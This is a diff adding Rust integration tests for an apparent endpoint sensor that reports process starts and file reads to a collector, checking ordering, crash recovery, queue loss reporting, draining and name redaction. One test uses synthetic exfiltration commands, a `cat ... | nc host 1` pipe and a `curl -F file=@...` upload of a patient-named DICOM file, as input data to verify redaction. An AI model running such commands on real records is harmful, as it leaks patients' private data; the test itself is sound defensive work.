@@ -1,0 +1,340 @@
+//! The whole host room but the kernel, as a black box: ticks go in at one end, and a collector on loopback has them at
+//! the other.
+#![allow(clippy::unwrap_used, clippy::missing_panics_doc, reason = "tests")]
+
+#[path = "pipeline/collector.rs"]
+mod collector;
+#[path = "pipeline/sensor.rs"]
+mod sensor;
+
+use std::future::Future;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use collector::{Collector, Log, Manner, events};
+use proto::sensor::v1;
+use proto::sensor::v1::event::Body;
+use sensor::{Sensor, ample, named, reads, starts};
+use sensor_user::End;
+use sensor_user::config::Queue;
+
+/// Ends a test that would wait for ever; nothing is measured by it.
+async fn bounded(test: impl Future<Output = ()>) {
+    tokio::time::timeout(Duration::from_mins(1), test)
+        .await
+        .expect("the test waited for something that never came");
+}
+
+/// Bytes read, per access, in the order of the log.
+fn amounts(events: &[v1::Event]) -> Vec<u64> {
+    let amount = |event: &v1::Event| match &event.body {
+        Some(Body::Access(access)) => Some(access.bytes_read),
+        _ => None,
+    };
+    events.iter().filter_map(amount).collect()
+}
+
+fn queued_events(log: &Log) -> u64 {
+    log.batches
+        .last_key_value()
+        .map_or(0, |(_, batch)| batch.last_seq)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn events_arrive_in_order_each_after_its_process_and_that_after_its_ancestors() {
+    bounded(async {
+        let log = Arc::new(Mutex::new(Log::default()));
+        let collector = Collector::start(Arc::clone(&log), Manner::Acknowledges).await;
+        let sensor = Sensor::start(collector.url(), ample());
+        let mut tick = starts(10, 100, 1, &["bash"]).to_vec();
+        tick.extend(starts(11, 101, 100, &["cat", "x"]));
+        tick.extend(starts(12, 200, 100, &["elsewhere"]));
+        tick.push(reads(13, 101, 5, 1));
+        sensor.tick(tick).await;
+        for n in 2..=50 {
+            sensor.tick(vec![reads(13 + n, 101, 5, n)]).await;
+        }
+        assert_eq!(sensor.stop().await, End::Drained);
+        let events = events(&log);
+        assert_eq!(amounts(&events), (1..=50).collect::<Vec<_>>());
+        let processes: Vec<_> = events
+            .iter()
+            .take_while(|event| !matches!(event.body, Some(Body::Access(_))))
+            .map(|event| match &event.body {
+                Some(Body::Process(p)) => (
+                    p.id.unwrap().pid,
+                    p.parent.unwrap().pid,
+                    p.arguments.join(" "),
+                    p.user.as_str(),
+                ),
+                other => panic!("{other:?}"),
+            })
+            .collect();
+        assert_eq!(
+            processes,
+            [
+                (100, 1, "bash".into(), "meier"),
+                (101, 100, "cat x".into(), "meier")
+            ]
+        );
+        assert_eq!(
+            events.len(),
+            52,
+            "the process that touched nothing stays on its host"
+        );
+        let times: Vec<u64> = events.iter().map(|event| event.time_boot_ns).collect();
+        assert!(
+            times.is_sorted()
+                && events
+                    .iter()
+                    .all(|event| event.time_unix_ns > event.time_boot_ns)
+        );
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_collector_killed_again_and_again_loses_and_doubles_nothing() {
+    bounded(async {
+        let log = Arc::new(Mutex::new(Log::default()));
+        let mut collector = Collector::start(Arc::clone(&log), Manner::Silent).await;
+        let sensor = Sensor::start(collector.url(), ample());
+        let mut n = 0;
+        for _ in 0..4 {
+            for _ in 0..25 {
+                n += 1;
+                sensor.tick(vec![reads(n, 100, 5, n)]).await;
+            }
+            // It has the events and has not said so: they will come again to the next one.
+            collector.until(|log| queued_events(log) > n).await;
+            let address = collector.address;
+            collector.kill().await;
+            n += 1;
+            sensor.tick(vec![reads(n, 100, 5, n)]).await;
+            collector = Collector::start_at(address, Arc::clone(&log), Manner::Silent).await;
+        }
+        collector.behave(Manner::Acknowledges);
+        assert_eq!(sensor.stop().await, End::Drained);
+        assert_eq!(amounts(&events(&log)), (1..=n).collect::<Vec<_>>());
+        let log = log.lock().unwrap();
+        assert!(log.hellos.len() >= 5, "{}", log.hellos.len());
+        assert!(
+            log.hellos
+                .iter()
+                .all(|hello| hello.epoch == log.hellos[0].epoch && hello.sensor_id == "sensor-1")
+        );
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_collector_that_never_acknowledges_fills_the_queue_and_no_more_and_the_gap_is_said() {
+    bounded(async {
+        let log = Arc::new(Mutex::new(Log::default()));
+        let collector = Collector::start(Arc::clone(&log), Manner::Silent).await;
+        let bound = 1_000;
+        let sensor = Sensor::start(
+            collector.url(),
+            Queue {
+                events_max: bound,
+                ..ample()
+            },
+        );
+        let mut given = 5_000;
+        for n in 1..=given / 10 {
+            sensor
+                .tick((0..10).map(|i| reads(n * 10 + i, 100, 5, 1)).collect())
+                .await;
+        }
+        // Losses are in the heartbeat while nothing else can be said of them. The source's own 4 are in the number.
+        let full = |log: &Log| {
+            log.heartbeats.last().is_some_and(|beat| {
+                beat.lost_events >= given - bound + 4 && beat.queued_events == queued_events(log)
+            })
+        };
+        collector.until(full).await;
+        {
+            let log = log.lock().unwrap();
+            assert!(
+                queued_events(&log) <= bound && queued_events(&log) > bound - 20,
+                "{}",
+                queued_events(&log)
+            );
+            let beat = log.heartbeats.last().unwrap();
+            assert_eq!(
+                (
+                    beat.backend.as_str(),
+                    beat.kernel.as_str(),
+                    beat.hooks[0].seen
+                ),
+                ("recording", "6.1", 3)
+            );
+            assert_eq!(
+                (beat.queued_events, beat.stores.as_slice()),
+                (queued_events(&log), &["pacs".to_owned()][..])
+            );
+        }
+        collector.behave(Manner::Acknowledges);
+        // Until one has come through: ticks that were on their way when the loss was noticed are part of it.
+        while !amounts(&events(&log)).contains(&77) {
+            given += 1;
+            sensor.tick(vec![reads(100_000 + given, 100, 5, 77)]).await;
+            let beats = log.lock().unwrap().heartbeats.len();
+            collector
+                .until(|log| log.heartbeats.len() > beats + 1)
+                .await;
+        }
+        assert_eq!(sensor.stop().await, End::Drained);
+
+        let events = events(&log);
+        let mut gaps = Vec::new();
+        let mut said = false;
+        for event in &events {
+            match &event.body {
+                Some(Body::Gap(gap)) => {
+                    assert_eq!(gap.reason(), v1::GapReason::QueueFull);
+                    assert!(gap.from_unix_ns <= gap.to_unix_ns);
+                    gaps.push(gap.count);
+                    said = false;
+                }
+                Some(Body::Process(_)) => said = true,
+                Some(Body::Access(_)) => assert!(
+                    said,
+                    "after a gap a process is said again before its events"
+                ),
+                other => panic!("{other:?}"),
+            }
+        }
+        // The gaps also count the process, which every lost tick said in vain.
+        let missing = given - amounts(&events).len() as u64;
+        let counted: u64 = gaps.iter().sum();
+        assert!(
+            missing > 0 && counted >= missing,
+            "{counted} counted, {missing} missing"
+        );
+        assert!(
+            counted <= missing + given / 10,
+            "{counted} counted, {missing} missing"
+        );
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn names_of_records_are_nowhere_in_the_bytes_that_leave() {
+    bounded(async {
+        let log = Arc::new(Mutex::new(Log::default()));
+        let collector = Collector::start(Arc::clone(&log), Manner::Acknowledges).await;
+        let sensor = Sensor::start(collector.url(), ample());
+        let path = format!("{}/ward/DOE-JOHN.dcm", sensor.store().display());
+        let curl = format!("file=@{path};type=application/dicom");
+        let mut tick = vec![named(1, 5, "ward/DOE-JOHN.dcm")];
+        tick.extend(starts(
+            2,
+            100,
+            1,
+            &["sh", "-c", &format!("cat '{path}' | nc host 1")],
+        ));
+        tick.extend(starts(
+            3,
+            101,
+            100,
+            &["curl", "-F", &curl, "/tmp/DOE-JOHN.dcm"],
+        ));
+        tick.push(reads(4, 101, 5, 9));
+        sensor.tick(tick).await;
+        assert_eq!(sensor.stop().await, End::Drained);
+        let log_now = log.lock().unwrap();
+        for batch in log_now.batches.values() {
+            let found = batch.payload.windows(3).any(|window| window == b"DOE");
+            assert!(!found, "{}", String::from_utf8_lossy(&batch.payload));
+        }
+        drop(log_now);
+        let events = events(&log);
+        let Some(Body::Access(access)) = &events.last().unwrap().body else {
+            panic!("{events:?}")
+        };
+        assert_eq!(
+            (access.store.as_str(), access.name_form()),
+            ("pacs", v1::NameForm::Token)
+        );
+        let Some(Body::Process(curl)) = &events[1].body else {
+            panic!("{events:?}")
+        };
+        let token = format!("token:{}", access.name);
+        let store = sensor_store(&curl.arguments[2]);
+        assert_eq!(
+            curl.arguments[2],
+            format!("file=@{store}/{token};type=application/dicom")
+        );
+        assert_eq!(curl.arguments[3], format!("/tmp/{token}"));
+    })
+    .await;
+}
+
+/// The path of the store, which stays as it is.
+fn sensor_store(argument: &str) -> &str {
+    argument
+        .strip_prefix("file=@")
+        .unwrap()
+        .split("/token:")
+        .next()
+        .unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_stop_drains_what_is_queued_even_to_a_collector_that_comes_late() {
+    bounded(async {
+        let log = Arc::new(Mutex::new(Log::default()));
+        let first = Collector::start(Arc::clone(&log), Manner::Acknowledges).await;
+        let address = first.address;
+        first.kill().await;
+        let sensor = Sensor::start(format!("http://{address}"), ample());
+        for n in 1..=100 {
+            sensor.tick(vec![reads(n, 100, 5, n)]).await;
+        }
+        let stopping = tokio::spawn(sensor.stop());
+        let late = Collector::start_at(address, Arc::clone(&log), Manner::Acknowledges).await;
+        assert_eq!(stopping.await.unwrap(), End::Drained);
+        late.until(|log| log.farewells > 0).await;
+        assert_eq!(amounts(&events(&log)), (1..=100).collect::<Vec<_>>());
+        assert_eq!(
+            log.lock().unwrap().heartbeats.last().unwrap().queued_events,
+            0,
+            "the last word is a heartbeat"
+        );
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_stop_that_cannot_drain_ends_in_time_and_counts_what_was_left() {
+    bounded(async {
+        let log = Arc::new(Mutex::new(Log::default()));
+        let collector = Collector::start(Arc::clone(&log), Manner::Silent).await;
+        let queue = Queue {
+            drain: Duration::from_millis(50),
+            ..ample()
+        };
+        let sensor = Sensor::start(collector.url(), queue);
+        sensor
+            .tick((1..=10).map(|n| reads(n, 100, 5, n)).collect())
+            .await;
+        collector.until(|log| queued_events(log) == 11).await;
+        assert_eq!(sensor.stop().await, End::Forced(11));
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_source_that_ends_by_itself_is_no_clean_end_but_loses_nothing() {
+    bounded(async {
+        let log = Arc::new(Mutex::new(Log::default()));
+        let collector = Collector::start(Arc::clone(&log), Manner::Acknowledges).await;
+        let sensor = Sensor::start(collector.url(), ample());
+        sensor.tick(vec![reads(1, 100, 5, 1)]).await;
+        assert_eq!(sensor.lose_source().await, End::SourceEnded);
+        assert_eq!(amounts(&events(&log)), [1]);
+    })
+    .await;
+}
